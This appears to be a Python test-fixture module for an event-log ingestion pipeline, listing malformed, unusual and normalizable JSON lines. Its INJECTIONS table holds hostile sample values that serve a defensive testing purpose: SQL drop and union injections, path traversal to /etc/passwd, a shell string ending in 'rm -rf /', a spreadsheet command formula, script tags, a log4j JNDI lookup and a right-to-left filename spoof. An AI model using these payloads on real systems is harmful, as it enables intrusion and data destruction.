"""Lines that no reader likes, what each has to become, and files that hold them."""

import gzip
import json
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

from backports import zstd

NOON = 1_790_856_000_000  # 2026-10-01 12:00 UTC in milliseconds
PREFIX = b'{"event_type": "view", "timestamp": 1790856000000, '


def good_line(number: int) -> bytes:
    """An event like any other, with its newline."""
    fields = {"event_type": "view", "timestamp": NOON, "user_id": f"u{number}"}
    return json.dumps(fields).encode() + b"\n"


GOOD = [good_line(number) for number in range(3)]

# What is left of such a line is in quarantine, as malformed.
REJECTED = {
    "cut short": PREFIX + b'"user_id": "u',
    "text": b"GET /index.html 200",
    "comment": b"# a comment",
    "number": b"42",
    "array": b'[{"event_type": "view"}]',
    "null": b"null",
    "string": b'"view"',
    "NUL bytes": b"\0" * 4096,
    "NUL inside": PREFIX + b'"a": "\0"}',
    "NUL bytes before an event": b"\0" * 512 + GOOD[0][:-1],
    "not UTF-8": PREFIX + b'"a": "\xff\xfe"}',
    "Latin-1": PREFIX + '"a": "café"}'.encode("latin-1"),
    "UTF-16": '{"event_type": "view"}'.encode("utf-16-le"),
    "lone surrogate": PREFIX + b'"a": "\\ud800"}',
    "lone surrogate as UTF-8": PREFIX + b'"a": "\xed\xa0\x80"}',
    "beyond Unicode": PREFIX + b'"a": "\xf4\x90\x80\x80"}',
    "overlong UTF-8": PREFIX + b'"a": "\xc0\xaf"}',
    "NaN": PREFIX + b'"a": NaN}',
    "infinity": PREFIX + b'"a": -Infinity}',
    "number beyond infinity": PREFIX + b'"a": 1e400}',
    "hexadecimal number": PREFIX + b'"a": 0x10}',
    "leading zero": PREFIX + b'"a": 007}',
    "plus sign": PREFIX + b'"a": +1}',
    "two objects": PREFIX + b'"a": 1}{"event_type": "view"}',
    "two objects with a space": GOOD[0][:-1] + b" " + GOOD[1][:-1],
    "two objects with a comma": GOOD[0][:-1] + b", " + GOOD[1][:-1],
    "torn into another": PREFIX + b'"a": {"event_type": "view"}',
    "two writes interleaved": b'{"event_type": {"event_type": "view", "vi"timestamp": 1}\x00ew"}',
    "torn in front": b'mestamp": 1790856000000, "user_id": "u9"}',
    "lines ended by CR alone": b"\r".join(each[:-1] for each in GOOD),
    "form feed before an event": b"\x0c" + GOOD[0][:-1],
    "no-break space before an event": b"\xc2\xa0" + GOOD[0][:-1],
    "zero-width space before an event": b"\xe2\x80\x8b" + GOOD[0][:-1],
    "mark behind a space": b" \xef\xbb\xbf" + GOOD[0][:-1],
    "single quotes": b"{'event_type': 'view'}",
    "typographic quotes": "{“event_type”: “view”}".encode(),
    "no quotes": b"{event_type: view}",
    "Python's words": PREFIX + b'"a": None, "b": True}',
    "undefined": PREFIX + b'"a": undefined}',
    "trailing comma": PREFIX + b'"a": 1,}',
    "comment inside": PREFIX + b'/* why */ "a": 1}',
    "tab inside a text": PREFIX + b'"a": "\t"}',
    "unknown escape": PREFIX + b'"a": "\\x41"}',
    "backslash at the end": PREFIX + b'"a": "\\',
    "prefix of a logger": b"2026-10-01 12:00:00 INFO " + GOOD[0][:-1],
    "JSON in JSON": json.dumps(GOOD[0].decode()).encode(),
    "CSV": b"view,1790856000000,u1",
    "XML": b'<event type="view"/>',
    "gzip inside": PREFIX + gzip.compress(GOOD[0], mtime=0).replace(b"\n", b""),
    "thousand levels": PREFIX + b'"a": ' + b"[" * 1000 + b"]" * 1000 + b"}",
    "200,000 levels": b"[" * 200_000,
    "200,000 levels, closed": PREFIX + b'"a": ' + b'{"a":' * 200_000 + b"1" + b"}" * 200_001,
    "300 levels": PREFIX + b'"properties": {"a": ' + b"[" * 300 + b"]" * 300 + b"}}",
    "too many digits": PREFIX + b'"a": ' + b"9" * 300 + b"." + b"}",
    "number of 5,000 digits": PREFIX + b'"a": ' + b"9" * 5000 + b"}",
    "no event_type": b'{"timestamp": 1790856000000}',
    "empty event_type": b'{"event_type": " ", "timestamp": 1790856000000}',
    "event_type is a number": b'{"event_type": 5, "timestamp": 1790856000000}',
    "event_type is null": b'{"event_type": null, "timestamp": 1790856000000}',
    "event_type is an object": b'{"event_type": {}, "timestamp": 1790856000000}',
    "no time": b'{"event_type": "view"}',
    "time is no time": b'{"event_type": "view", "timestamp": "noon"}',
    "time is true": b'{"event_type": "view", "timestamp": true}',
    "time is an array": b'{"event_type": "view", "timestamp": [2026, 10, 1]}',
    "30 February": b'{"event_type": "view", "timestamp": "2026-02-30T00:00:00Z"}',
    "year 100000": b'{"event_type": "view", "timestamp": 9999999999999999999999}',
    "id is an object": PREFIX + b'"user_id": {"id": 1}}',
    "id is an array": PREFIX + b'"user_id": ["u"]}',
    "id is true": PREFIX + b'"user_id": true}',
    "id is too large to be exact": PREFIX + b'"user_id": 1e300}',
    "event id is an object": PREFIX + b'"event_id": {}}',
    "URL is an array": PREFIX + b'"page_url": ["/"]}',
    "properties are text": PREFIX + b'"properties": "a=1"}',
    "context is an array": PREFIX + b'"context": []}',
    "unknown shape": b'{"hello": "world"}',
    "empty object": b"{}",
}
# These need seconds and memory: they are tried at one place in the tests, at all by `make faults`.
REJECTED_FOR_SIZE = {
    "20 MB of text": PREFIX + b'"a": "' + b"x" * 20_000_000 + b'"}',
    "million keys": PREFIX + b", ".join(b'"k%d": %d' % (n, n) for n in range(1_000_000)) + b"}",
    "20 MB without a quote": b"x" * 20_000_000,
}

INJECTIONS = {
    "formula": "=cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "plus": "+1+1",
    "at": "@SUM(1+1)",
    "SQL": "view'; drop table events; --",
    "SQL in double quotes": 'view"; drop schema marts cascade; --',
    "SQL union": "x' union select * from read_csv('/etc/passwd') --",
    "path": "../../etc/passwd",
    "path of a device": "/dev/null",
    "escaped path": "..%2f..%2fetc%2fpasswd%00",
    "NUL": "view\0.parquet",
    "template": "{{ 1 / 0 }}",
    "template statement": "{% do exceptions.raise_compiler_error('no') %}",
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf /",
    "HTML": "<script>alert(1)</script>",
    "Markdown": "| a | [x](javascript:alert(1)) |",
    "log4j": "${jndi:ldap://example.invalid/a}",
    "glob": "*/*.parquet",
    "braces": "{{}} {} %s %(a)s {0.__class__}",
    "line end": "view\nview\r\nview",
    "escape sequence": "\x1b[2J\x1b]0;title\x07",
    "right to left": "\u202egnp.exe\u202c",
    "homoglyph": "viеw",  # with a Cyrillic letter
    "zero-width": "vi\u200bew\ufeff",
    "combining": "v\u0301" * 20,
    "emoji": "👩‍👩‍👧‍👦" * 5,
    "very long": "v" * 100_000,
}


def _sent(**fields: Any) -> bytes:
    return json.dumps({"event_type": "view", "timestamp": NOON, **fields}).encode()


def _at(moment: Any) -> bytes:
    return _sent(timestamp=moment)


# Such a line is unusual but an event all the same.
ACCEPTED = {
    "escaped NUL": PREFIX + b'"a": "\\u0000"}',
    "duplicate keys": PREFIX + b'"a": 1, "a": 2}',
    "keys that differ in case": PREFIX + b'"a": 1, "A": 2}',
    "thirty digits": PREFIX + b'"a": 123456789012345678901234567890}',
    "minus zero": PREFIX + b'"a": -0.0, "b": 1E-400}',
    "white space around": b" \t" + GOOD[0][:-1] + b" \r",
    "carriage return inside": b'{"event_type": "view",\r"timestamp": 1790856000000}',
    "line separator inside": PREFIX + '"a": "\u2028\u0085"}'.encode(),
    "non-character": PREFIX + '"a": "\uffff\ufffe"}'.encode(),
    "surrogate pair": PREFIX + b'"a": "\\ud83d\\ude00"}',
    "two hundred levels": PREFIX + b'"a": ' + b"[" * 200 + b"]" * 200 + b"}",
    "thousand keys": PREFIX + b", ".join(b'"k%d": %d' % (n, n) for n in range(1000)) + b"}",
    "long text": PREFIX + b'"a": "' + b"x" * 3_000_000 + b'"}',
    "long key": PREFIX + b'"' + b"k" * 100_000 + b'": 1}',
    "empty key": PREFIX + b'"": ""}',
    "key of a prototype": PREFIX + b'"__proto__": {"a": 1}, "__class__": 1}',
    **{f"{kind} as event_type": _sent(event_type=text) for kind, text in INJECTIONS.items()},
    **{f"{kind} as value": _sent(a=text) for kind, text in INJECTIONS.items()},
    **{f"{kind} as key": _sent(**{text: 1}) for kind, text in INJECTIONS.items()},
}

# Unusual ids and times, and what they come to.
SETTLED: dict[str, tuple[bytes, dict[str, Any]]] = {
    "id is a whole number": (_sent(user_id=42), {"user_id": "42"}),
    "id is a whole float": (_sent(user_id=42.0), {"user_id": "42"}),
    "id is a fraction": (_sent(user_id=4.5), {"user_id": "4.5"}),
    "id is negative": (_sent(user_id=-1), {"user_id": "-1"}),
    "id beyond 64 bits": (_sent(user_id=2**70), {"user_id": str(2**70)}),
    "id is zero": (_sent(user_id=0), {"user_id": None}),
    "id of zeros": (
        _sent(anonymous_id="00000000-0000-0000-0000-000000000000"),
        {"anonymous_id": None},
    ),
    "id is empty": (_sent(user_id=""), {"user_id": None}),
    "id is the word null": (_sent(user_id="null"), {"user_id": None}),
    "id is null": (_sent(user_id=None), {"user_id": None}),
    "id of 100 kB": (_sent(user_id="u" * 100_000), {"user_id": "u" * 100_000}),
    "id with an injection": (_sent(user_id=INJECTIONS["SQL"]), {"user_id": INJECTIONS["SQL"]}),
    "id right to left": (_sent(user_id="\u202eabc"), {"user_id": "\u202eabc"}),
    "event id is a number": (_sent(event_id=7), {"event_id": "7"}),
    "event id with an injection": (
        _sent(event_id=INJECTIONS["path"]),
        {"event_id": INJECTIONS["path"]},
    ),
    "time in seconds": (_at(NOON // 1000), {"event_ts": datetime(2026, 10, 1, 12, tzinfo=UTC)}),
    "time in microseconds": (_at(NOON * 1000), {"event_ts": datetime(2026, 10, 1, 12, tzinfo=UTC)}),
    "time in nanoseconds": (_at(NOON * 10**6), {"event_ts": datetime(2026, 10, 1, 12, tzinfo=UTC)}),
    "time with an offset": (
        _at("2026-10-01T14:00:00+02:00"),
        {"event_ts": datetime(2026, 10, 1, 12, tzinfo=UTC)},
    ),
    "time as text of digits": (_at(str(NOON)), {"event_ts": datetime(2026, 10, 1, 12, tzinfo=UTC)}),
    "time is 0": (
        _at(0),
        {"event_ts": datetime(1970, 1, 1, tzinfo=UTC), "ts_quality": "implausible"},
    ),
    "time in 1970": (
        _at("1970-01-01T00:00:01Z"),
        {"event_ts": datetime(1970, 1, 1, 0, 0, 1, tzinfo=UTC), "ts_quality": "implausible"},
    ),
    "time before 1970": (
        _at(-1),
        {"event_ts": datetime(1969, 12, 31, 23, 59, 59, tzinfo=UTC), "ts_quality": "implausible"},
    ),
    "time in 2100": (
        _at(4_102_444_800_000),
        {"event_ts": datetime(2100, 1, 1, tzinfo=UTC), "ts_quality": "implausible"},
    ),
    "time in 9999": (
        _at("9999-12-31T23:59:59Z"),
        {"event_ts": datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC), "ts_quality": "implausible"},
    ),
}

POSITIONS = ["first", "middle", "last", "last without newline"]


def _plain(content: bytes) -> bytes:
    return content


def _gzip(content: bytes) -> bytes:
    return gzip.compress(content, 1, mtime=0)


def _gzip_members(content: bytes) -> bytes:
    half = len(content) // 2
    return _gzip(content[:half]) + _gzip(content[half:])


def _zstd(content: bytes) -> bytes:
    return zstd.compress(content, 1)


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "plain": _plain,
    "gzip": _gzip,
    "gzip of two members": _gzip_members,
    "zstd": _zstd,
}


def placed(hostile: bytes, position: str) -> tuple[bytes, int]:
    """The file's content, and the line number of the hostile one."""
    number = {"first": 0, "middle": 2}.get(position, 3)
    lines = [*GOOD[:number], hostile + b"\n", *GOOD[number:]]
    content = b"".join(lines)
    return (content[:-1] if position == "last without newline" else content), number + 1
